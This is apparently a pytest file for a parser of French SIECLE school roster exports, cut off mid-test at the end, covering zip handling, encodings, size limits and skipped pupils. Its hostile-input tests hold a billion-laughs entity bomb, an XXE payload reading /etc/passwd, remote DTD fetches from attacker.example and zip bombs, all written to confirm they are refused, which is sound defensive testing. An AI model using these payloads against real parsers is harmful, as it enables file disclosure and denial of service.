"""Reading the SIECLE export "ElevesSansAdresses.xml", plain or zipped, including hostile files."""

from __future__ import annotations

import struct
from datetime import date
from pathlib import Path
from typing import Unpack

import pytest

from shared.domain.errors import DomainError, RuleViolation
from shared.domain.limits import (
    MAX_ROSTER_STUDENTS,
    MAX_SIECLE_DEPTH,
    MAX_SIECLE_ELEMENTS,
    MAX_SIECLE_ELEVES,
    MAX_SIECLE_NAME_CHARS,
    MAX_SIECLE_NAMES,
    MAX_SIECLE_READ_CHARS,
    MAX_SIECLE_VALUE_CHARS,
    MAX_XML_TOKEN_BYTES,
    MAX_ZIP_RATIO,
)
from shared.domain.roster.model import (
    MAX_IGNORED_LISTED,
    ParsedRoster,
    RosterLineError,
    RosterStudent,
    Sex,
)
from shared.domain.roster.parse import parse_roster
from shared.domain.roster.siecle import SiecleLimits, parse_siecle
from tests.unit.roster_files import (
    SAMPLE_PATH,
    EleveFields,
    division,
    eleve,
    outside_donnees,
    pupils_xml,
    sample_bytes,
    siecle_text,
    siecle_xml,
    structures,
    xml_shape,
    zip_bytes,
)

XML = "application/xml"
ZIP = "application/zip"
SHARED_SAMPLE = Path("/work/shared/formats/ElevesSansAdresses-sample.xml")


def rejected(content: bytes, media_type: str = XML, code: str = "INVALID_ROSTER") -> str:
    with pytest.raises(RuleViolation) as caught:
        parse_roster(content, media_type)
    assert caught.value.code == code
    return caught.value.message


def one_pupil(**fields: Unpack[EleveFields]) -> ParsedRoster:
    return parse_roster(siecle_xml([eleve("9000101", **fields)], [division("9000101")]), XML)


def french(
    line: int,
    ine: str,
    last_name: str,
    first_name: str,
    birthdate: date,
    division: str,
    sex: Sex,
    city_code: str,
) -> RosterStudent:
    return RosterStudent(
        line=line,
        national_student_id=ine,
        last_name=last_name,
        first_name=first_name,
        birthdate=birthdate,
        division=division,
        sex=sex,
        birth_city_code=city_code,
        birth_country="France",
        birth_country_code="100",
    )


SAMPLE_STUDENTS = [
    french(1, "9999000101A", "MARTIN", "Lucas", date(2010, 3, 12), "3E1", Sex.M, "69123"),
    french(2, "9999000102B", "LECŒUR", "Zoé", date(2010, 11, 5), "3E1", Sex.F, "75115"),
    french(3, "9999000103C", "ROUSSEL--DA COSTA", "Inès", date(2010, 7, 21), "3E1", Sex.F, "33063"),
    french(4, "9999000104D", "BERTRAND", "Noah", date(2010, 1, 30), "3E1", Sex.M, "59350"),
    RosterStudent(
        line=5,
        national_student_id="9999000105E",
        last_name="EL AMRANI",
        first_name="Yasmine",
        birthdate=date(2010, 9, 14),
        division="3E2",
        sex=Sex.F,
        birth_city="CASABLANCA",
        birth_country="Maroc",
        birth_country_code="350",
    ),
    french(6, "9999000106F", "FAURE", "Hugo", date(2010, 6, 8), "3E2", Sex.M, "13055"),
    french(7, "9999000107G", "PETIT", "Chloé", date(2011, 2, 19), "3E2", Sex.F, "44109"),
    french(8, "9999000108H", "ALBERTINI", "Matteo", date(2010, 4, 27), "3E2", Sex.M, "2A004"),
    french(9, "9999000109J", "LAMBERT", "Jade", date(2010, 12, 3), "3E3", Sex.F, "97120"),
    french(10, "9999000110K", "GIRARD", "Théo", date(2009, 8, 16), "3E3", Sex.M, "31555"),
    french(11, "9999000111L", "MOREL", "Léna", date(2010, 10, 22), "3E3", Sex.F, "35238"),
]


# --- The synthetic sample ------------------------------------------------------------------


def test_the_sample_gives_its_eleven_pupils_in_file_order_and_skips_the_one_who_left() -> None:
    # Given the ISO-8859-15 sample (12 ELEVE, the 12th with a DATE_SORTIE)
    # When it is read
    roster = parse_roster(sample_bytes(), XML)
    # Then every other pupil is there, with last year's class (SCOLARITE_AN_DERNIER) ignored
    assert roster.model_dump(exclude={"ignored"}) == ParsedRoster(
        students=SAMPLE_STUDENTS, skipped=1, errors=[], uai="0999999Z"
    ).model_dump(exclude={"ignored"})
    ((line, reason, message),) = [(i.line, i.reason, i.message) for i in roster.ignored]
    assert (line, reason) == (12, "LEFT_SCHOOL")
    assert message.startswith("Élève n° 12 (ELEVE_ID ") and " : élève sorti le " in message


@pytest.mark.skipif(not SHARED_SAMPLE.exists(), reason="the shared formats folder is not here")
def test_the_fixture_is_a_copy_of_the_shared_sample() -> None:
    assert SAMPLE_PATH.read_bytes() == SHARED_SAMPLE.read_bytes()


def test_text_xml_is_read_like_application_xml() -> None:
    assert parse_roster(sample_bytes(), "text/xml") == parse_roster(sample_bytes(), XML)


# --- Zip -----------------------------------------------------------------------------------


@pytest.mark.parametrize("media_type", ["application/zip", "application/x-zip-compressed"])
def test_a_zip_holding_the_export_is_read_like_the_export(media_type: str) -> None:
    archive = zip_bytes({"ElevesSansAdresses.xml": sample_bytes()})
    assert parse_roster(archive, media_type) == parse_roster(sample_bytes(), XML)


def test_mac_and_hidden_entries_and_directories_of_a_zip_are_ignored() -> None:
    # Given a zip made on a Mac: a folder, the resource fork copy, .DS_Store, a readme
    archive = zip_bytes(
        {
            "export/ElevesSansAdresses.xml": sample_bytes(),
            "__MACOSX/export/._ElevesSansAdresses.xml": b"\x00\x05\x16\x07junk",
            "export/.DS_Store": b"\x00\x00\x00\x01Bud1",
            ".hidden.xml": b"<nope/>",
            "LISEZMOI.txt": b"Export SIECLE",
        },
        directories=("export/", "__MACOSX/", "dossier.xml/"),
    )
    # Then the one real XML entry is read
    assert parse_roster(archive, ZIP).students == SAMPLE_STUDENTS


def test_a_zip_with_two_xml_files_is_refused() -> None:
    archive = zip_bytes({"a.xml": sample_bytes(), "b/ElevesSansAdresses.XML": sample_bytes()})
    assert "2 fichiers XML" in rejected(archive, ZIP)


def test_a_zip_without_xml_is_refused() -> None:
    archive = zip_bytes({"eleves.csv": b"Nom;Prenom\n", "__MACOSX/._a.xml": b"x"})
    assert rejected(archive, ZIP) == "L'archive zip ne contient aucun fichier XML."


@pytest.mark.parametrize(
    "content",
    [b"", b"PK\x03\x04 not really a zip", b"not a zip at all", b"PK\x05\x06" + b"\x00" * 18],
)
def test_a_broken_zip_is_refused(content: bytes) -> None:
    rejected(content, ZIP)


def test_a_zip_bomb_is_refused_from_its_declared_size_without_inflating_it() -> None:
    # Given 60 MB of zeros, a few tens of kilobytes once compressed
    archive = zip_bytes({"ElevesSansAdresses.xml": b"\x00" * (60 * 1024 * 1024)})
    assert len(archive) < 200_000
    # When it is imported
    message = rejected(archive, ZIP)
    # Then it is refused for the size its headers declare
    assert "50 Mo" in message


def test_a_zip_lying_about_its_sizes_is_refused() -> None:
    # Given an entry of 60 MB whose headers claim 1 000 bytes
    archive = bytearray(zip_bytes({"ElevesSansAdresses.xml": b"<" * (60 * 1024 * 1024)}))
    central = archive.rfind(b"PK\x01\x02")
    struct.pack_into("<I", archive, central + 24, 1000)  # central directory: uncompressed size
    struct.pack_into("<I", archive, 22, 1000)  # local header: uncompressed size
    # When it is imported: the reader stops at the claimed size and the CRC does not match
    rejected(bytes(archive), ZIP)


def test_an_encrypted_zip_entry_is_refused() -> None:
    # Given a zip whose entry is flagged as encrypted (general purpose bit 0)
    archive = bytearray(zip_bytes({"ElevesSansAdresses.xml": sample_bytes()}))
    archive[6] |= 0x1  # local file header
    archive[archive.rfind(b"PK\x01\x02") + 8] |= 0x1  # central directory
    assert "mot de passe" in rejected(bytes(archive), ZIP)


def test_the_red_teams_zip_of_six_million_empty_elements_is_refused_unread() -> None:
    # Given the red team's file (#12): a 24 MB SIECLE file whose 6 million empty elements
    # outside DONNEES zip into about 25 KB
    content = outside_donnees(sample_bytes(), b"<X/>" * 6_000_000)
    archive = zip_bytes({"ElevesSansAdresses.xml": content})
    assert len(archive) < 60_000
    # When it is imported: Then it is refused from its compression ratio, before being inflated
    message = rejected(archive, ZIP)
    assert message.startswith("Le fichier XML de l'archive zip est plus de 100 fois plus gros")


def test_a_zip_inflating_more_than_the_ratio_is_refused() -> None:
    # Given a real export padded with blank space: 5 MB that zip into a few kilobytes
    content = outside_donnees(sample_bytes(), b" " * 5_000_000)
    archive = zip_bytes({"ElevesSansAdresses.xml": content})
    assert len(content) > MAX_ZIP_RATIO * len(archive)
    # Then it is refused, the plain file being read
    assert f"{MAX_ZIP_RATIO} fois" in rejected(archive, ZIP)
    assert parse_roster(content, XML).students == SAMPLE_STUDENTS


def test_a_real_export_zips_far_below_the_ratio() -> None:
    from devstack.demo_roster import LYCEE_DIVISIONS, demo_siecle_xml

    content = demo_siecle_xml(
        "0999999Z", seed=7, divisions=LYCEE_DIVISIONS, pupils_per_division=334
    )
    archive = zip_bytes({"ElevesSansAdresses.xml": content})
    assert len(content) < MAX_ZIP_RATIO / 2 * len(archive)
    assert parse_roster(archive, ZIP) == parse_roster(content, XML)


# --- Hostile XML ---------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE BEE_ELEVES [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<BEE_ELEVES><PARAMETRES><UAJ>&lol9;</UAJ></PARAMETRES></BEE_ELEVES>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="ISO-8859-15"?>
<!DOCTYPE BEE_ELEVES [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<BEE_ELEVES><DONNEES><ELEVES><ELEVE ELEVE_ID="1"><NOM_DE_FAMILLE>&secret;</NOM_DE_FAMILLE>
<PRENOM>Lucas</PRENOM><DATE_NAISS>12/03/2010</DATE_NAISS></ELEVE></ELEVES><STRUCTURES>
<STRUCTURES_ELEVE ELEVE_ID="1"><STRUCTURE><CODE_STRUCTURE>3E1</CODE_STRUCTURE>
<TYPE_STRUCTURE>D</TYPE_STRUCTURE></STRUCTURE></STRUCTURES_ELEVE></STRUCTURES></DONNEES>
</BEE_ELEVES>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE BEE_ELEVES [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<BEE_ELEVES/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE BEE_ELEVES SYSTEM "http://attacker.example/bee.dtd">
<BEE_ELEVES/>
"""

PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE BEE_ELEVES [<!ELEMENT BEE_ELEVES ANY>]>
<BEE_ELEVES/>
"""


@pytest.mark.parametrize(
    "content",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, PLAIN_DTD],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "plain-dtd"],
)
def test_dtds_and_entities_are_refused_before_anything_is_expanded_or_fetched(
    content: bytes,
) -> None:
    message = rejected(content)
    assert "DTD" in message
    assert "root:" not in message


def test_hostile_xml_is_refused_inside_a_zip_too() -> None:
    assert "DTD" in rejected(zip_bytes({"ElevesSansAdresses.xml": BILLION_LAUGHS}), ZIP)


@pytest.mark.parametrize(
    "content",
    [
        b"<BEE_ELEVES><PARAMETRES></BEE_ELEVES>",
        b'<?xml version="1.0"?>\n<BEE_ELEVES>\n<DONNEES>',
        b"\x00\xff\xfe garbage \x81\x82",
        b"%PDF-1.7 not xml",
        b"Nom;Prenom;Date\nDUPONT;Jean;01/01/2010\n",
    ],
)
def test_a_file_that_is_not_well_formed_xml_is_refused(content: bytes) -> None:
    rejected(content)


def test_the_malformed_message_gives_the_line_in_french() -> None:
    message = rejected(b'<?xml version="1.0"?>\n<BEE_ELEVES>\n  <PARAMETRES>\n</BEE_ELEVES>')
    assert message.startswith("Le fichier XML est mal formé (ligne 4, colonne")


def test_another_xml_document_is_refused() -> None:
    assert "BEE_ELEVES" in rejected(b'<?xml version="1.0"?><svg><ELEVE/></svg>')


def test_no_truncation_of_the_sample_escapes_as_anything_but_a_domain_error() -> None:
    # Given the sample cut at many places (a broken upload)
    content = sample_bytes()
    for cut in range(0, len(content), max(1, len(content) // 300)):
        # When each prefix is read, Then it is a roster or a clean INVALID_ROSTER
        try:
            parse_roster(content[:cut], XML)
        except DomainError as error:
            assert error.code == "INVALID_ROSTER"


# --- Hostile shapes: the reader's budget -----------------------------------------------------
# The file is read as a stream: nothing outside the values it uses is kept, and each limit
# below bounds the work and the memory of a read whatever the file (the figures are in the
# bench, bench/parse_figures.py). Small limits reach each one with small files.


def refused_by(content: bytes, limits: SiecleLimits) -> str:
    with pytest.raises(RuleViolation) as caught:
        parse_siecle(content, limits)
    assert caught.value.code == "INVALID_ROSTER"
    return caught.value.message


def test_the_limits_leave_a_real_export_far_below_them() -> None:
    from devstack.demo_roster import LYCEE_DIVISIONS, demo_siecle_xml

    content = demo_siecle_xml(
        "0999999Z", seed=7, divisions=LYCEE_DIVISIONS, pupils_per_division=334
    )
    elements, depth, names = xml_shape(content)
    # 2 007 pupils: a real export has about 30 elements per pupil, 6 levels, 50 to 60 names
    assert elements * MAX_ROSTER_STUDENTS / 2007 * 5 < MAX_SIECLE_ELEMENTS
    assert depth * 2 < MAX_SIECLE_DEPTH
    assert names * 10 < MAX_SIECLE_NAMES


def test_elements_outside_donnees_are_read_past_and_not_kept() -> None:
    content = outside_donnees(sample_bytes(), b"<X/>" * 100_000 + b"<Y><Z>text</Z></Y>")
    assert parse_roster(content, XML) == parse_roster(sample_bytes(), XML)


def test_a_file_in_a_namespace_is_read_like_the_plain_one() -> None:
    namespace = b' xmlns="http://www.education.gouv.fr/siecle/export/ElevesSansAdresses/2024"'
    content = sample_bytes().replace(b"<BEE_ELEVES", b"<BEE_ELEVES" + namespace, 1)
    assert parse_roster(content, XML) == parse_roster(sample_bytes(), XML)


def test_cdata_comments_and_instructions_within_a_value_are_read_as_before() -> None:
    roster = one_pupil(nom="DU<![CDATA[ <PONT>]]><!-- commentaire --><?pi x?>--MOREAU")
    assert roster.students[0].last_name == "DU <PONT>--MOREAU"


def test_the_element_count_is_capped() -> None:
    content = sample_bytes()
    elements, _, _ = xml_shape(content)
    assert parse_siecle(content, SiecleLimits(elements=elements)) == parse_roster(content, XML)
    message = refused_by(content, SiecleLimits(elements=elements - 1))
    assert message == (
        f"Le fichier XML contient plus de {elements - 1} éléments : ce n'est pas un export "
        "SIECLE « ElevesSansAdresses.xml »."
    )


def test_the_nesting_depth_is_capped() -> None:
    content = sample_bytes()
    _, depth, _ = xml_shape(content)
    assert parse_siecle(content, SiecleLimits(depth=depth)) == parse_roster(content, XML)
    message = refused_by(content, SiecleLimits(depth=depth - 1))
    assert message.startswith(f"Le fichier XML imbrique ses éléments sur plus de {depth - 1}")


def test_deeply_nested_elements_are_refused_at_the_limit() -> None:
    # Given a million nested elements outside DONNEES (7 MB)
    content = outside_donnees(sample_bytes(), b"<A>" * 1_000_000 + b"</A>" * 1_000_000)
    # Then the file is refused when the limit is crossed, not when the file ends
    message = rejected(content)
    assert f"plus de {MAX_SIECLE_DEPTH} niveaux" in message


def test_the_distinct_names_are_capped() -> None:
    content = sample_bytes()
    _, _, names = xml_shape(content)
    assert parse_siecle(content, SiecleLimits(names=names)) == parse_roster(content, XML)
    message = refused_by(content, SiecleLimits(names=names - 1))
    assert message.startswith(f"Le fichier XML utilise plus de {names - 1} noms")


def test_many_distinct_element_names_are_refused() -> None:
    many = b"".join(b"<N%d/>" % n for n in range(MAX_SIECLE_NAMES + 1))
    assert "noms d'éléments ou d'attributs différents" in rejected(
        outside_donnees(sample_bytes(), many)
    )


def test_many_distinct_attribute_names_are_refused() -> None:
    many = b"".join(b'<X a%d="1"/>' % n for n in range(MAX_SIECLE_NAMES + 1))
    assert "noms d'éléments ou d'attributs différents" in rejected(
        outside_donnees(sample_bytes(), many)
    )


def test_a_long_element_name_is_refused() -> None:
    name = b"N" * (MAX_SIECLE_NAME_CHARS + 1)
    message = rejected(outside_donnees(sample_bytes(), b"<" + name + b"/>"))
    assert f"nom d'élément ou d'attribut de plus de {MAX_SIECLE_NAME_CHARS} caractères" in message


TOKEN = MAX_XML_TOKEN_BYTES * 2


@pytest.mark.parametrize(
    "xml",
    [
        b'<X a="' + b"a" * TOKEN + b'"/>',
        b"<X " + b" ".join(b'a%d=""' % n for n in range(TOKEN // 6)) + b"/>",
        b"<!--" + b"<a> " * (TOKEN // 4) + b"-->",
        b"<?pi " + b"<a> " * (TOKEN // 4) + b"?>",
        b"<X" + b"x" * TOKEN + b"/>",
        b"<X></X" + b" " * TOKEN + b">",
    ],
    ids=["attribute", "attributes", "comment", "processing-instruction", "name", "end-tag"],
)
def test_a_tag_or_comment_longer_than_the_token_limit_is_refused(xml: bytes) -> None:
    # Given a tag, a comment or an instruction the parser would have to hold whole
    message = rejected(outside_donnees(sample_bytes(), xml))
    # Then the file is refused once the parser holds more than the limit
    assert message.startswith(
        "Le fichier XML contient une balise, un commentaire ou une instruction de plus de 64 Ko"
    )


def test_the_token_limit_is_reached_with_small_limits() -> None:
    content = outside_donnees(sample_bytes(), b"<!--" + b"a " * 20_000 + b"-->")
    assert parse_siecle(content, SiecleLimits()) == parse_roster(sample_bytes(), XML)
    assert "de plus de 1 Ko" in refused_by(content, SiecleLimits(token_bytes=1024))


def test_long_text_is_read_as_a_stream() -> None:
    # Text, unlike a tag, reaches the reader piece by piece: a long one in a skipped element is
    # no trouble
    content = outside_donnees(sample_bytes(), b"<X>" + b"a" * (10 * MAX_XML_TOKEN_BYTES) + b"</X>")
    assert parse_roster(content, XML) == parse_roster(sample_bytes(), XML)


def test_a_value_too_long_to_keep_is_cut_and_refused_for_its_length() -> None:
    # Given a last name of 2 million characters and a good pupil
    content = siecle_xml(
        [eleve("1", nom="A" * 2_000_000), eleve("2")], [division("1"), division("2")]
    )
    roster = parse_roster(content, XML)
    # Then the first one is an error on its name, the other one is imported
    assert [s.line for s in roster.students] == [2]
    [error] = roster.errors
    assert error.code == "INVALID_NAME"
    assert error.message == (
        f"Élève n° 1 (ELEVE_ID 1) : le nom de famille « {'A' * 39}… » dépasse 100 caractères."
    )


def utf8_pupil(**fields: Unpack[EleveFields]) -> ParsedRoster:
    content = siecle_xml([eleve("9000101", **fields)], [division("9000101")], encoding="UTF-8")
    return parse_roster(content, XML)


@pytest.mark.parametrize("run", [" ", "\n", "\t", " \r\n", "\xa0", "\u2003"])
def test_a_long_run_of_blank_space_in_a_value_still_counts_as_one_space(run: str) -> None:
    blank = run * (3 * MAX_SIECLE_VALUE_CHARS)
    roster = utf8_pupil(nom=f"{blank}DE{blank}LA{blank}FONTAINE{blank}", prenom="Zoé" + blank)
    assert (roster.students[0].last_name, roster.students[0].first_name) == (
        "DE LA FONTAINE",
        "Zoé",
    )


def test_a_control_character_lost_in_blank_space_is_still_seen() -> None:
    # U+0085 (NEL) is both blank space for Python and a control character for the checks
    blank = " " * (3 * MAX_SIECLE_VALUE_CHARS)
    roster = one_pupil(nom=f"DE{blank}\x85{blank}LA FONTAINE")
    [error] = roster.errors
    assert error.message.endswith("contient des caractères de contrôle ou invisibles.")


def test_a_long_value_cut_is_never_imported() -> None:
    # A name of 100 letters each written with two combining accents (300 code points, 100 once
    # composed) is read as it is today; the same name twice as long is refused, not cut.
    name = "e\u0323\u0302" * 100
    assert utf8_pupil(nom=name).students[0].last_name == "ệ" * 100
    [error] = utf8_pupil(nom=name * 5).errors
    assert error.code == "INVALID_NAME"


def left_pupils(count: int, name: str = "MARTIN") -> bytes:
    """`count` ELEVE who left the school, and one pupil still there."""
    left = "".join(
        f'<ELEVE ELEVE_ID="{n}"><NOM_DE_FAMILLE>{name}</NOM_DE_FAMILLE><DATE_SORTIE/></ELEVE>'
        for n in range(2, count + 2)
    )
    return siecle_xml([eleve("1"), left], [division("1")])


def test_the_eleve_elements_are_capped_those_who_left_included() -> None:
    roster = parse_roster(left_pupils(MAX_SIECLE_ELEVES - 1), XML)
    assert (len(roster.students), roster.skipped) == (1, MAX_SIECLE_ELEVES - 1)
    message = rejected(left_pupils(MAX_SIECLE_ELEVES))
    assert message.startswith("Le fichier XML contient plus de 20 000 éléments ELEVE, ceux des")


def test_the_report_lists_the_first_200_ignored_pupils_and_counts_them_all() -> None:
    roster = parse_roster(left_pupils(250), XML)
    assert roster.skipped == 250 and len(roster.ignored) == MAX_IGNORED_LISTED == 200
    assert roster.ignored[0].message == (
        "Élève n° 2 (ELEVE_ID 2) : élève sorti de l'établissement, non importé."
    )


def test_the_structures_eleve_elements_are_capped() -> None:
    content = siecle_xml([eleve("1")], [division("1"), division("2"), division("3")])
    assert len(parse_siecle(content, SiecleLimits(eleves=3)).students) == 1
    assert "plus de 2 éléments STRUCTURES_ELEVE" in refused_by(content, SiecleLimits(eleves=2))


def test_the_characters_read_for_the_pupils_are_capped() -> None:
    # Given pupils who left, with 1 000-character names: read, counted, dropped
    count = MAX_SIECLE_READ_CHARS // MAX_SIECLE_VALUE_CHARS
    assert parse_roster(left_pupils(count - 50, "A" * MAX_SIECLE_VALUE_CHARS), XML).skipped
    message = rejected(left_pupils(count, "A" * MAX_SIECLE_VALUE_CHARS))
    assert message.startswith(
        "Le fichier XML contient plus de 4 000 000 caractères de valeurs lues pour les élèves"
    )


def test_the_characters_read_are_the_wanted_values_and_the_eleve_ids() -> None:
    content = siecle_xml([eleve("9000101", nom="DURAND")], [division("9000101", "3E1")])
    # Read: UAJ 8, ELEVE_ID 7 twice (key and as shown), the 8 values of the ELEVE (ELENOET and
    # the unknown elements are not read), STRUCTURES_ELEVE's ELEVE_ID 7, CODE_STRUCTURE 3,
    # TYPE_STRUCTURE 1
    values = len("9999000101ADURANDLucas12/03/2010100169123")
    read = 8 + 7 + 7 + values + 7 + 3 + 1
    assert parse_siecle(content, SiecleLimits(read_chars=read)).students
    refused_by(content, SiecleLimits(read_chars=read - 1))


def test_a_long_eleve_id_still_joins_its_class_and_names_the_pupil() -> None:
    # Given three pupils whose 20 000-character ELEVE_ID differ in their last character only,
    # the third one repeating the first one's
    long_id = "9" * 20_000
    content = siecle_xml(
        [
            eleve(long_id + "1", ine="1111111111A"),
            eleve(long_id + "2", ine="2222222222B"),
            eleve(long_id + "1", ine="3333333333C"),
        ],
        [division(long_id + "2", "3E2"), division(long_id + "1", "3E1")],
    )
    roster = parse_roster(content, XML)
    # Then each of the first two gets its own class, and the third one is a duplicate
    assert [(s.line, s.division) for s in roster.students] == [(1, "3E1"), (2, "3E2")]
    [error] = roster.errors
    assert (error.line, error.code) == (3, "DUPLICATE_ELEVE_ID")
    assert error.message.startswith(f"Élève n° 3 (ELEVE_ID « {'9' * 39}… ») : ")


# --- Encodings -----------------------------------------------------------------------------

ACCENTED = eleve("9000102", nom="LECŒUR", prenom="Zoé")


def accented(content: bytes) -> tuple[str, str]:
    student = parse_roster(content, XML).students[0]
    return student.last_name, student.first_name


@pytest.mark.parametrize(
    ("declared", "codec"),
    [
        ("ISO-8859-15", "iso8859-15"),
        ("iso-8859-15", "iso8859-15"),
        ("UTF-8", "utf-8"),
        ("windows-1252", "cp1252"),
    ],
)
def test_the_declared_encoding_is_honoured(declared: str, codec: str) -> None:
    text = siecle_text([ACCENTED], [division("9000102")], encoding=declared)
    assert accented(text.encode(codec)) == ("LECŒUR", "Zoé")


def test_utf8_with_a_bom_is_read() -> None:
    text = siecle_text([ACCENTED], [division("9000102")], encoding="UTF-8")
    assert accented(b"\xef\xbb\xbf" + text.encode("utf-8")) == ("LECŒUR", "Zoé")


def test_utf16_with_a_bom_is_read() -> None:
    text = siecle_text([ACCENTED], [division("9000102")], encoding="UTF-16")
    assert accented(text.encode("utf-16")) == ("LECŒUR", "Zoé")


def test_without_declaration_utf8_is_assumed() -> None:
    text = siecle_text([ACCENTED], [division("9000102")], encoding=None)
    assert accented(text.encode("utf-8")) == ("LECŒUR", "Zoé")


def test_utf8_bytes_under_an_iso_8859_15_declaration_are_still_read_right() -> None:
    # Given an export re-saved in UTF-8 by an editor that kept the declaration
    text = siecle_text([ACCENTED], [division("9000102")], encoding="ISO-8859-15")
    assert accented(text.encode("utf-8")) == ("LECŒUR", "Zoé")


def test_iso_8859_15_bytes_under_a_utf8_declaration_are_still_read_right() -> None:
    text = siecle_text([ACCENTED], [division("9000102")], encoding="UTF-8")
    assert accented(text.encode("iso8859-15")) == ("LECŒUR", "Zoé")


@pytest.mark.parametrize("declared", ["EBCDIC-CP-BE", "x-unknown", "UTF-16", "rot13", "Shift_JIS"])
def test_an_unsupported_declared_encoding_is_refused(declared: str) -> None:
    text = siecle_text([eleve("1")], [division("1")], encoding=declared)
    assert "encodage non pris en charge" in rejected(text.encode("ascii"))


def test_a_bom_that_lies_is_refused_cleanly() -> None:
    assert "encodage non pris en charge" in rejected(b"\xef\xbb\xbf<BEE_ELEVES>\xe9</BEE_ELEVES>")


# --- Empty files and limits ----------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"   \n\t\r\n",
        b"\xef\xbb\xbf",
        b'<?xml version="1.0" encoding="ISO-8859-15"?>\n<BEE_ELEVES/>',
        siecle_xml([], []),
    ],
)
def test_a_file_without_any_eleve_is_refused(content: bytes) -> None:
    assert rejected(content) == "Le fichier ne contient aucun élève."


def test_a_file_whose_pupils_were_all_skipped_returns_an_empty_roster() -> None:
    content = siecle_xml(
        [eleve("1", extra="<DATE_SORTIE>01/02/2025</DATE_SORTIE>"), eleve("2")], [division("1")]
    )
    roster = parse_roster(content, XML)
    assert roster == ParsedRoster(students=[], skipped=2, ignored=roster.ignored, uai="0999999Z")
    # Each with its reason, in French
    assert [i.message for i in roster.ignored] == [
        "Élève n° 1 (ELEVE_ID 1) : élève sorti le 01/02/2025, non importé.",
        "Élève n° 2 (ELEVE_ID 2) : élève sans classe cette année, non importé.",
    ]


def test_more_pupils_than_the_limit_are_refused() -> None:
    message = rejected(pupils_xml(MAX_ROSTER_STUDENTS + 1), code="TOO_MANY_STUDENTS")
    assert "5 000" in message


def test_the_limit_counts_the_pupils_still_at_school() -> None:
    roster = parse_roster(pupils_xml(MAX_ROSTER_STUDENTS, left=20), XML)
    assert (len(roster.students), roster.skipped) == (MAX_ROSTER_STUDENTS, 20)


def test_a_2000_pupil_export_is_read_whole() -> None:
    from devstack.demo_roster import LYCEE_DIVISIONS, demo_siecle_xml

    content = demo_siecle_xml(
        "0999999Z", seed=7, divisions=LYCEE_DIVISIONS, pupils_per_division=334
    )
    roster = parse_roster(content, XML)
    assert len(roster.students) == 2004


# --- Skipped pupils ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "date_sortie",
    [
        "<DATE_SORTIE>14/02/2025</DATE_SORTIE>",
        "<DATE_SORTIE>30/06/2099</DATE_SORTIE>",
        "<DATE_SORTIE></DATE_SORTIE>",
        "<DATE_SORTIE/>",
    ],
)
def test_a_pupil_with_a_date_sortie_is_skipped_whatever_its_value(date_sortie: str) -> None:
    content = siecle_xml(
        [eleve("1", extra=date_sortie), eleve("2")], [division("1"), division("2")]
    )
    roster = parse_roster(content, XML)
    assert [s.line for s in roster.students] == [2]
    assert roster.skipped == 1


@pytest.mark.parametrize(
    "structure",
    [
        "",
        structures("1"),
        structures("1", ("3LATIN", "G")),
        structures("1", ("Inactifs", "D")),
        structures("1", ("", "D")),
    ],
    ids=["no-structures-eleve", "no-structure", "group-only", "inactifs", "empty-code"],
)
def test_a_pupil_without_a_division_is_skipped(structure: str) -> None:
    content = siecle_xml([eleve("1"), eleve("2")], [structure, division("2", "3E2")])
    roster = parse_roster(content, XML)
    assert [(s.line, s.division) for s in roster.students] == [(2, "3E2")]
    assert (roster.skipped, roster.errors) == (1, [])


def test_last_years_class_is_never_taken_for_this_years() -> None:
    last_year = "<SCOLARITE_AN_DERNIER><CODE_STRUCTURE>4E1</CODE_STRUCTURE></SCOLARITE_AN_DERNIER>"
    roster = parse_roster(siecle_xml([eleve("1", extra=last_year)], []), XML)
    assert (roster.students, roster.skipped) == ([], 1)


# --- Joining ELEVE and STRUCTURES_ELEVE ----------------------------------------------------


def test_classes_are_joined_on_eleve_id_never_by_position() -> None:
    # Given STRUCTURES_ELEVE listed in another order than the ELEVE, one of them missing
    content = siecle_xml(
        [eleve("30", prenom="Trente"), eleve("10", prenom="Dix"), eleve("20", prenom="Vingt")],
        [division("20", "3E2"), division("30", "3E3")],
    )
    roster = parse_roster(content, XML)
    assert [(s.line, s.first_name, s.division) for s in roster.students] == [
        (1, "Trente", "3E3"),
        (3, "Vingt", "3E2"),
    ]
    assert roster.skipped == 1


def test_structures_listed_before_the_eleves_are_joined_too() -> None:
    content = siecle_xml(
        [eleve("1"), eleve("2", prenom="Zoé")],
        [division("2", "3E2"), division("1", "3E1")],
        structures_first=True,
    )
    roster = parse_roster(content, XML)
    assert [(s.first_name, s.division) for s in roster.students] == [
        ("Lucas", "3E1"),
        ("Zoé", "3E2"),
    ]


def test_the_division_is_the_d_structure_among_groups() -> None:
    content = siecle_xml(
